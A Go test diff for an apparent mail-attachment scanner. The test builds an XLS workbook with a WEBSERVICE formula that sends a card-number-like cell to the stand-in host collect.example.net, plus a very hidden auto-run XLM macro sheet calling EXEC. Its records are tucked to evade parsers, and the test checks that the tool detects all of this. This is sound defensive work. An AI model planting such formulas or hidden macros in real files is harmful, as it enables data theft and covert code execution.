@@ -310,3 +310,39 @@ func TestXLSSharedFormulasWrittenByLibreOffice(t *testing.T) {
 		}
 	}
 }
+
+// Record order as Excel and LibreOffice accept it, not as Excel writes it:
+// the SST before the names (a web function's among them), and every sheet
+// inside the body of one record of an unknown type, found only by
+// seeking where its BOUNDSHEET says. LibreOffice reads the cells, the
+// formula and the very hidden macro sheet; so must we.
+func TestXLSRecordOrderReadAsLibreOffice(t *testing.T) {
+	xls := f.XLS(f.XLSWorkbook{
+		Sheets: []f.XLSSheet{{Name: "Order", Formulas: []f.XLSFormula{
+			{Col: 1, Rgce: f.Cat(f.PtgName(1), f.PtgStr("https://collect.example.net/c?n="), f.PtgRef(0, 0), f.PtgConcat, f.PtgFuncVar(2, 0xFF, false))}}},
+			{Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{{Rgce: f.Cat(f.PtgStr("notepad.exe"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
+		Names:    []f.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}, {Builtin: 1, Rgce: f.PtgRef3d(1, 0, 0)}},
+		Strings:  []string{"4000-0000-0000-0002"},
+		SSTFirst: true, Tucked: true})
+	out, err := soffice.ConvertFiles(t.TempDir(), "fods", map[string][]byte{"order.xls": xls})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, w := range []string{`<text:p>4000-0000-0000-0002</text:p>`, `<table:table table:name="Macro1"`,
+		`&quot;https://collect.example.net/c?n=&quot;&amp;[.A1])"`} { // (LibreOffice knows no _xlfn. name of BIFF8)
+		if !strings.Contains(string(out["order.xls"]), w) {
+			t.Errorf("LibreOffice does not read %s", w)
+		}
+	}
+	m := mail("order", "see attached", "order.xls", xls)
+	expand(t, m, Options{})
+	web := string(mustPart(t, m, "2/order.xls/web-formulas").Content)
+	for _, w := range []string{"Order!R1C1 = \"4000-0000-0000-0002\"\n", "Order!R1C2: =_xlfn.WEBSERVICE(\"https://collect.example.net/c?n=\"&R1C1)\n"} {
+		if !strings.Contains(web, w) {
+			t.Errorf("web-formulas lacks %q; have\n%s", w, web)
+		}
+	}
+	if got := string(mustPart(t, m, "2/order.xls/xlm/Macro1").Content); !strings.Contains(got, `R1C1: =EXEC("notepad.exe")`) {
+		t.Errorf("macro sheet listing =\n%s", got)
+	}
+}
